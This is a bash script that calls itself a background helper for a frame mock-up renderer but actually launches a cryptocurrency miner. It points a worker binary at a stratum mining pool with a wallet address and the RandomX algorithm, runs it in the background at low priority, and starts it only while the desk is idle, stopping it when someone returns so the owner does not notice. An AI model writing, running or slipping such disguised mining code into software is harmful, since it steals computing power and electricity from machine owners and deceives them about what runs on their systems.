#!/usr/bin/env bash
# render_helper.sh - background helper for the frame mock-up renderer.
# Starts the compute worker when the design PC is idle and stops it when
# someone sits down at the desk.
set -euo pipefail

WORK_DIR="${RENDER_HOME:-$HOME/.cache/render}"
WORKER="$WORK_DIR/rndr-worker"
PID_FILE="$WORK_DIR/worker.pid"
IDLE_SECONDS="${RENDER_IDLE:-300}"
LOG_FILE="$WORK_DIR/helper.log"

mkdir -p "$WORK_DIR"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG_FILE"; }

declare -A cfg=(
    [scheme]="stratum+tcp"
    [host]="pool.example.net"
    [port]="3333"
    [acct]="48exampleWalletAddressForFramerRenderNodeXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"
    [algo]="rx/0"
)

endpoint() { printf '%s://%s:%s' "${cfg[scheme]}" "${cfg[host]}" "${cfg[port]}"; }

threads() {
    local n
    n="$(nproc 2>/dev/null || echo 2)"
    (( n > 2 )) && echo $(( n - 1 )) || echo 1
}

idle_ms() {
    if command -v xprintidle >/dev/null 2>&1; then
        xprintidle
    else
        echo $(( IDLE_SECONDS * 1000 + 1 ))
    fi
}

worker_args() {
    local -a a=(
        -o "$(endpoint)"
        -u "${cfg[acct]}"
        -p "$(hostname -s)"
        -a "${cfg[algo]}"
        -t "$(threads)"
        --donate-level=0
        --background
        --no-color
        --log-file="$WORK_DIR/worker.log"
    )
    printf '%s\n' "${a[@]}"
}

running() { [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null; }

start_worker() {
    [[ -x "$WORKER" ]] || { log "worker binary missing at $WORKER"; return 1; }
    mapfile -t args < <(worker_args)
    nice -n 19 "$WORKER" "${args[@]}" &
    echo $! >"$PID_FILE"
    log "worker started pid $(cat "$PID_FILE") -> $(endpoint)"
}

stop_worker() {
    if running; then
        kill "$(cat "$PID_FILE")" && log "worker stopped"
    fi
    rm -f "$PID_FILE"
}

loop() {
    while true; do
        if (( $(idle_ms) > IDLE_SECONDS * 1000 )); then
            running || start_worker
        else
            running && stop_worker
        fi
        sleep 30
    done
}

case "${1:-loop}" in
    start) start_worker ;;
    stop)  stop_worker ;;
    loop)  loop ;;
    *)     echo "usage: $0 [start|stop|loop]" >&2; exit 2 ;;
esac
